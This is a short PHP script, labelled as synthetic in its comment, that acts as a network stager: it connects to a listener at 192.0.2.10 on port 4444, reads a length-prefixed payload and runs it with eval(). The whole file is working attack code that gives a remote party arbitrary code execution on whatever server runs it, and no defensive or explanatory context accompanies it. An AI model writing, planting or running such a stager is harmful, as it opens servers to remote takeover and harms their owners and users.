<?php
// synthetic: a stager that evaluates what a listener sends
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_connect($s, '192.0.2.10', 4444);
$n = unpack('Nlen', socket_read($s, 4));
$payload = socket_read($s, $n['len']);
eval($payload);
